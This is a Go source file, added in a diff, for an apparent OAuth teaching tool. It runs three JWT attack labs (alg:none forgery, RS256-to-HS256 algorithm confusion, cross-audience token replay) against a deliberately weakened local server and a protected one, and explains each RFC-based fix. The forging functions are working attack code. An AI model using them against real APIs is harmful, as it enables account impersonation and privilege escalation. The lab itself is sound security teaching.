@@ -1,0 +1,345 @@
+package flows
+
+import (
+	"context"
+	"crypto/hmac"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"net/http"
+	"strings"
+	"time"
+
+	"github.com/lestrrat-go/jwx/v3/jwk"
+
+	"github.com/oauthlab/oauthlab/oauth"
+)
+
+// Lab is an attack shown live: it works against a deliberately weakened
+// resource server of the lab's own world, then fails against the same API
+// with the protection on. Both sides run in one process, so the
+// server-side events say what each server decided.
+//
+// A lab's steps get a legitimate token, forge or replay one as the
+// Attacker, call the weakened API (the check "attack succeeded
+// (weakened)" passes only on a 200) and the protected one (the check
+// "protection held" passes only on a 401). The lab demonstrates what it
+// should only when both happened.
+type Lab struct {
+	// Name is what `oauthlab lab NAME` takes.
+	Name  string
+	Title string
+	// Story is who the attacker is and what they hold.
+	Story string
+	// Protection is what stops the attack, and RFC the sections that
+	// require it.
+	Protection string
+	RFC        string
+	// Fix is what a real deployment changes.
+	Fix   string
+	Steps []Step
+}
+
+// Flow is the lab as a flow, for the faces that run flows.
+func (l Lab) Flow() Flow {
+	return Flow{ID: "lab-" + l.Name, Title: "Lab: " + l.Title, Summary: l.Story, Steps: l.Steps}
+}
+
+// Labs returns every lab, in teaching order.
+func Labs() []Lab { return []Lab{AlgNoneLab(), AlgConfusionLab(), AudienceLab()} }
+
+// LabByName returns the lab called name.
+func LabByName(name string) (Lab, bool) {
+	for _, l := range Labs() {
+		if l.Name == name {
+			return l, true
+		}
+	}
+	return Lab{}, false
+}
+
+// The checks a lab's two calls make.
+const (
+	CheckAttackSucceeded = "attack succeeded (weakened)"
+	CheckProtectionHeld  = "protection held"
+)
+
+// varLabToken is the token the attacker presents.
+const varLabToken = "lab_token"
+
+// labPath is the route both APIs are called on: it needs fakebookapi.read,
+// which the demo client's token carries.
+const labPath = "/books"
+
+// AlgNoneLab: an unsigned token at a resource server that trusts the
+// header's alg (RFC 8725 §2.1, §3.1).
+func AlgNoneLab() Lab {
+	return Lab{
+		Name:  "alg-none",
+		Title: "alg: none, an unsigned token",
+		Story: "The attacker holds one ordinary access token (their own, or one seen in a log) and no key at all. " +
+			"They rewrite its claims — sub becomes \"attacker\", exp an hour from now — set the header's alg to none " +
+			"and drop the signature. The weakened FakeBook reads alg from the token itself, so it checks no signature.",
+		Protection: "The resource server decides which algorithms it accepts (an allow-list of the issuer's asymmetric " +
+			"algorithms) and never lets the token's header choose: alg none is refused before any claim is read.",
+		RFC: "RFC 8725 §2.1, §3.1",
+		Fix: "Configure the JWT library with the expected algorithms (RS256, ES256…) and the issuer's jwks_uri; " +
+			"never call a decode that skips verification, and never accept \"none\" for an access token.",
+		Steps: []Step{discoveryStep(), clientCredentialsStep(),
+			forgeStep("forge-none", "Forge an unsigned token (alg: none)",
+				"The attacker keeps the claims' shape so every other check passes, sets alg to none and sends no signature: "+
+					"anyone can write such a token (RFC 8725 §2.1).", forgeNone),
+			attackStep(), protectedStep()},
+	}
+}
+
+// AlgConfusionLab: the RS256 public key used as an HS256 secret (RFC 8725
+// §2.1, §3.1).
+func AlgConfusionLab() Lab {
+	return Lab{
+		Name:  "alg-confusion",
+		Title: "alg confusion: the public key as an HMAC secret",
+		Story: "The attacker holds one ordinary access token and the issuer's public key, which anyone can fetch from " +
+			"its jwks_uri. They rewrite the claims, set alg to HS256 and sign with the public key's PEM as the HMAC " +
+			"secret. The weakened FakeBook passes its one key to a verify function that trusts the header's alg, so " +
+			"the RSA public key becomes the shared secret.",
+		Protection: "The resource server accepts only the asymmetric algorithms its issuer signs with, and ties each key " +
+			"to its algorithm: an RSA key verifies RS256 and nothing else, so an HS256 token is refused.",
+		RFC: "RFC 8725 §2.1, §3.1",
+		Fix: "Pin the algorithms (RS256/ES256) in the verifier, use keys typed by the JWK's kty and alg, and never " +
+			"hand a public key to code that may treat it as an HMAC secret.",
+		Steps: []Step{discoveryStep(), clientCredentialsStep(),
+			forgeStep("forge-hs256", "Forge an HS256 token signed with the public key",
+				"The attacker fetches the issuer's public key from its jwks_uri (it is public by design), encodes it as PEM "+
+					"and uses those bytes as an HMAC-SHA256 secret (RFC 8725 §2.1).", forgeConfusion),
+			attackStep(), protectedStep()},
+	}
+}
+
+// AudienceLab: a token for one API replayed at another that does not
+// check aud (RFC 9068 §4, RFC 8725 §3.9).
+func AudienceLab() Lab {
+	return Lab{
+		Name:  "audience",
+		Title: "audience: a token for another API replayed",
+		Story: "The attacker runs (or has broken into) another API this client calls, and holds a genuine token the " +
+			"client sent it. That token's aud names the other API — Keycloak's classic aud: account, Okta's " +
+			"api://default — not FakeBook. The attacker replays it, untouched, at FakeBook; the weakened FakeBook " +
+			"checks the signature, the issuer and the expiry, but not aud.",
+		Protection: "A resource server accepts only tokens whose aud names it; a token issued for anyone else is " +
+			"refused, however genuine its signature.",
+		RFC: "RFC 9068 §4, RFC 8725 §3.9",
+		Fix: "Give each API its own audience (an audience mapper in Keycloak, an authorization server per API in Okta, " +
+			"or RFC 8707 resource indicators) and configure the API to require exactly that aud.",
+		Steps: []Step{discoveryStep(), clientCredentialsStep(),
+			forgeStep("replay", "Take the token meant for another API",
+				"The attacker needs no forgery: the token is genuine, only meant for someone else. Its aud says so, "+
+					"if anyone reads it (RFC 9068 §4).", replayToken),
+			attackStep(), protectedStep()},
+	}
+}
+
+// forgeStep is the attacker's work on the legitimate token.
+func forgeStep(id, title, why string, forge func(ctx context.Context, env *Env, vars Vars, r *Result) (string, error)) Step {
+	return Step{ID: id, Title: title, Why: why, RFC: "RFC 8725 §2.1", From: Attacker, To: Attacker,
+		Inputs: []string{"access_token"},
+		Run: func(ctx context.Context, env *Env, vars Vars) Result {
+			var r Result
+			if vars[VarAccessToken] == "" {
+				r.Err = &oauth.Error{Op: "lab", What: "no token to start from", Cause: "the token step did not run or got no token", Try: "run the lab from its first step"}
+				return r
+			}
+			tok, err := forge(ctx, env, vars, &r)
+			if err != nil {
+				r.Err = &oauth.Error{Op: "lab", What: "the attacker could not make the token", Cause: err.Error(), Try: "run the lab again from its first step"}
+				return r
+			}
+			if jwt, err := oauth.DecodeJWT(tok); err == nil {
+				r.Outputs = append(r.Outputs, Output{Name: "header", Value: string(jwt.HeaderJSON)}, Output{Name: "claims", Value: string(jwt.ClaimsJSON)})
+			}
+			r.Outputs = append(r.Outputs, Output{Name: "attack_token", Value: tok, Secret: true})
+			r.Vars = Vars{varLabToken: tok}
+			return r
+		}}
+}
+
+func attackStep() Step {
+	return labCall("attack", "Attack the weakened API", Attacker,
+		"The attacker presents the token to the deliberately weakened FakeBook of this lab's world. If the attack "+
+			"works there, the API answers 200: the weakness is real, not a slide.",
+		func(s Settings) string { return s.LabWeakAPI },
+		func(status int) (oauth.Check, bool) {
+			if status == http.StatusOK {
+				return oauth.Check{Name: CheckAttackSucceeded, Status: oauth.Pass,
+					Reason: "200: the weakened API accepted the attacker's token"}, true
+			}
+			return oauth.Check{Name: CheckAttackSucceeded, Status: oauth.Fail,
+				Reason: fmt.Sprintf("the weakened API answered %d, not 200: the attack did not work where it should, so this lab demonstrates nothing", status)}, false
+		})
+}
+
+func protectedStep() Step {
+	return labCall("protected", "Attack again with the protection on", Attacker,
+		"The same token goes to FakeBook with the protection on. It must answer 401 invalid_token, and its "+
+			"server-side event says which check refused the token.",
+		func(s Settings) string { return s.LabProtectedAPI },
+		func(status int) (oauth.Check, bool) {
+			if status == http.StatusUnauthorized {
+				return oauth.Check{Name: CheckProtectionHeld, Status: oauth.Pass,
+					Reason: "401: the protected API refused the attacker's token"}, true
+			}
+			return oauth.Check{Name: CheckProtectionHeld, Status: oauth.Fail,
+				Reason: fmt.Sprintf("the protected API answered %d, not 401: the protection did not stop the attack", status)}, false
+		})
+}
+
+func labCall(id, title string, from Actor, why string, base func(Settings) string, judge func(int) (oauth.Check, bool)) Step {
+	return Step{ID: id, Title: title, Why: why, RFC: "RFC 6750 §3.1", From: from, To: ResourceServer,
+		Inputs: []string{"lab_token"},
+		Run: func(ctx context.Context, env *Env, vars Vars) Result {
+			var r Result
+			b := base(env.Settings)
+			if b == "" {
+				r.Err = &oauth.Error{Op: "lab", What: "no lab world", Cause: "a lab runs only in its own world, which was not started",
+					Try: "run it with oauthlab lab NAME"}
+				return r
+			}
+			resp, ex, err := oauth.CallAPI(ctx, env.HTTP, http.MethodGet, strings.TrimRight(b, "/")+labPath, vars[varLabToken], nil)
+			r.Exchanges = ex
+			if err != nil {
+				return failed(env, r, err)
+			}
+			r.Outputs = []Output{{Name: "status", Value: fmt.Sprintf("%d %s", resp.Status, http.StatusText(resp.Status))}}
+			if h := resp.Header.Get("WWW-Authenticate"); h != "" {
+				r.Outputs = append(r.Outputs, Output{Name: "WWW-Authenticate", Value: h})
+			}
+			c, _ := judge(resp.Status)
+			r.Checks = []oauth.Check{c}
+			return r
+		}}
+}
+
+// escalate returns the legitimate token's claims rewritten by the attacker.
+func escalate(env *Env, raw string) (map[string]any, error) {
+	jwt, err := oauth.DecodeJWT(raw)
+	if err != nil {
+		return nil, fmt.Errorf("the legitimate token is not a JWT: %w", err)
+	}
+	claims := map[string]any{}
+	if err := json.Unmarshal(jwt.ClaimsJSON, &claims); err != nil {
+		return nil, err
+	}
+	claims["sub"] = "attacker"
+	claims["exp"] = env.Clock().Add(time.Hour).Unix()
+	return claims, nil
+}
+
+func segment(v any) (string, error) {
+	b, err := json.Marshal(v)
+	if err != nil {
+		return "", err
+	}
+	return base64.RawURLEncoding.EncodeToString(b), nil
+}
+
+func unsignedInput(header, claims map[string]any) (string, error) {
+	h, err := segment(header)
+	if err != nil {
+		return "", err
+	}
+	c, err := segment(claims)
+	if err != nil {
+		return "", err
+	}
+	return h + "." + c, nil
+}
+
+func forgeNone(_ context.Context, env *Env, vars Vars, _ *Result) (string, error) {
+	claims, err := escalate(env, vars[VarAccessToken])
+	if err != nil {
+		return "", err
+	}
+	in, err := unsignedInput(map[string]any{"alg": "none", "typ": "JWT"}, claims)
+	if err != nil {
+		return "", err
+	}
+	return in + ".", nil
+}
+
+// maxJWKS bounds the key set the attacker reads.
+const maxJWKS = 1 << 20
+
+func forgeConfusion(ctx context.Context, env *Env, vars Vars, r *Result) (string, error) {
+	claims, err := escalate(env, vars[VarAccessToken])
+	if err != nil {
+		return "", err
+	}
+	u := vars[VarJWKSURI]
+	if u == "" {
+		return "", errors.New("the discovery step found no jwks_uri")
+	}
+	resp, ex, err := oauth.CallAPI(ctx, env.HTTP, http.MethodGet, u, "", nil)
+	r.Exchanges = append(r.Exchanges, ex...)
+	if err != nil {
+		return "", err
+	}
+	if resp.Status != http.StatusOK || len(resp.Body) > maxJWKS {
+		return "", fmt.Errorf("the jwks_uri answered %d (%d bytes)", resp.Status, len(resp.Body))
+	}
+	// The key that signed the legitimate token: the weakened server looks
+	// it up by the kid the forged header names.
+	kid := ""
+	if jwt, err := oauth.DecodeJWT(vars[VarAccessToken]); err == nil {
+		kid, _ = jwt.Header["kid"].(string)
+	}
+	pemKey, err := PublicKeyPEM(resp.Body, kid)
+	if err != nil {
+		return "", err
+	}
+	in, err := unsignedInput(map[string]any{"alg": "HS256", "typ": "JWT", "kid": kid}, claims)
+	if err != nil {
+		return "", err
+	}
+	mac := hmac.New(sha256.New, pemKey)
+	mac.Write([]byte(in))
+	return in + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil)), nil
+}
+
+// PublicKeyPEM is the RSA key kid of a JWKS (the first RSA key when kid
+// is "") as PKIX PEM: the bytes a naive verifier holds as "the key", which
+// the alg-confusion lab uses as an HMAC secret.
+func PublicKeyPEM(jwks []byte, kid string) ([]byte, error) {
+	set, err := jwk.Parse(jwks)
+	if err != nil {
+		return nil, fmt.Errorf("the key set does not parse: %w", err)
+	}
+	for i := range set.Len() {
+		k, _ := set.Key(i)
+		if id, _ := k.KeyID(); kid != "" && id != kid {
+			continue
+		}
+		var pub rsa.PublicKey
+		if jwk.Export(k, &pub) != nil {
+			continue
+		}
+		der, err := x509.MarshalPKIXPublicKey(&pub)
+		if err != nil {
+			return nil, err
+		}
+		return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), nil
+	}
+	return nil, fmt.Errorf("the key set has no RSA key with kid %q", kid)
+}
+
+func replayToken(_ context.Context, _ *Env, vars Vars, r *Result) (string, error) {
+	raw := vars[VarAccessToken]
+	if jwt, err := oauth.DecodeJWT(raw); err == nil {
+		r.Outputs = append(r.Outputs, Output{Name: "aud", Value: fmt.Sprint(jwt.Claims["aud"])})
+	}
+	return raw, nil
+}
